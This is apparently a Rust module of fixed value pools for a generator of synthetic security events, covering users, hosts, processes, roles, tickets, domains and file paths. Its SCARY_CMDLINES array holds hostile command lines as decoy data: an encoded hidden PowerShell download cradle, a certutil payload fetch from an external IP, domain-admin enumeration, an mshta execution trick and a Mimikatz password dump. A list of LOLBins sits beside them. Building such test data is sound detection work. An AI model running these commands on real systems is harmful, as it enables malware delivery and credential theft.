//! Static value pools the generator draws from (borrowed into events, never allocated).

/// Account names.
pub(crate) const USERS: [&str; 40] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "kim", "liam", "maria",
    "nina", "oscar", "priya", "quinn", "rosa", "sam", "tariq", "uma", "victor", "wendy", "xavier", "yusuf", "zoe",
    "a.kowalski", "b.nguyen", "c.okafor", "d.silva", "e.tanaka", "f.muller", "g.rossi", "h.larsen", "svc_backup",
    "svc_sql", "svc_deploy", "svc_print", "j.smith", "k.patel",
];
/// Workstations.
pub(crate) const WORKSTATIONS: [&str; 16] = [
    "ws-0112", "ws-0147", "ws-0203", "ws-0219", "ws-0288", "ws-0301", "ws-0342", "ws-0417", "ws-0455", "ws-0512",
    "ws-0538", "ws-0604", "ws-0671", "ws-0733", "ws-0790", "ws-0815",
];
/// Servers.
pub(crate) const SERVERS: [&str; 10] = [
    "srv-db-01", "srv-db-02", "srv-web-01", "srv-web-02", "srv-file-01", "srv-app-03", "srv-mail-01", "dc-01",
    "dc-02", "srv-build-01",
];
/// Executables users start from the shell.
pub(crate) const BENIGN_PROCESSES: [&str; 8] =
    ["chrome.exe", "teams.exe", "excel.exe", "notepad.exe", "code.exe", "onedrive.exe", "slack.exe", "acrord32.exe"];
/// LOLBins used in malicious templates.
pub(crate) const LOLBINS: [&str; 8] =
    ["powershell.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe", "certutil.exe", "cmd.exe", "wscript.exe", "bitsadmin.exe"];
/// Parents that make a LOLBin suspicious.
pub(crate) const BAD_PARENTS: [&str; 6] = ["winword.exe", "excel.exe", "outlook.exe", "acrord32.exe", "w3wp.exe", "sqlservr.exe"];
/// Wrong parents for masquerading system processes.
pub(crate) const MASQUERADE_PARENTS: [&str; 4] = ["explorer.exe", "cmd.exe", "winword.exe", "powershell.exe"];
/// Command lines that look alarming (the verifier never reads them).
pub(crate) const SCARY_CMDLINES: [&str; 5] = [
    "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "/c whoami /all & net group \"domain admins\" /domain",
    "-urlcache -split -f http://45.77.12.9/payload.bin C:\\Users\\Public\\p.bin",
    "javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();",
    "sekurlsa::logonpasswords exit",
];
/// Command lines that look routine.
pub(crate) const ROUTINE_CMDLINES: [&str; 4] = [
    "-NoProfile -File C:\\IT\\inventory.ps1",
    "/c ipconfig /all",
    "-ExecutionPolicy Bypass -File \\\\srv-file-01\\it\\scripts\\map-drives.ps1",
    "shell32.dll,Control_RunDLL desk.cpl",
];
/// Privileged roles.
pub(crate) const PRIV_ROLES: [&str; 3] = ["admin", "domain_admin", "global_admin"];
/// Ordinary roles.
pub(crate) const PLAIN_ROLES: [&str; 4] = ["reader", "developer", "helpdesk", "analyst"];
/// Identity administrators that grant roles.
pub(crate) const ADMINS: [&str; 3] = ["iam-admin", "it.ops", "svc_iam_sync"];
/// Change tickets.
pub(crate) const TICKETS: [&str; 8] = ["CHG-1042", "CHG-1187", "CHG-2290", "CHG-3051", "CHG-3318", "CHG-4120", "CHG-4471", "CHG-5006"];
/// Routine DNS names.
pub(crate) const DOMAINS: [&str; 8] = [
    "intranet.corp.example", "login.microsoftonline.com", "update.googleapis.com", "files.corp.example",
    "cdn.jsdelivr.net", "outlook.office365.com", "wiki.corp.example", "api.github.com",
];
/// Routine file paths.
pub(crate) const PATHS: [&str; 6] = [
    "\\\\srv-file-01\\finance\\q3-forecast.xlsx", "\\\\srv-file-01\\hr\\handbook.pdf", "C:\\Users\\Public\\notes.txt",
    "\\\\srv-file-01\\eng\\roadmap.docx", "\\\\srv-file-01\\it\\inventory.csv", "C:\\Temp\\report.pdf",
];
/// First octets of public, unsanctioned address space used for attacker infrastructure.
pub(crate) const EXTERNAL_FIRST_OCTETS: [u8; 16] = [23, 31, 37, 45, 51, 62, 77, 85, 91, 95, 104, 141, 176, 185, 193, 212];
/// Common outbound ports.
pub(crate) const WEB_PORTS: [u16; 3] = [443, 8443, 80];
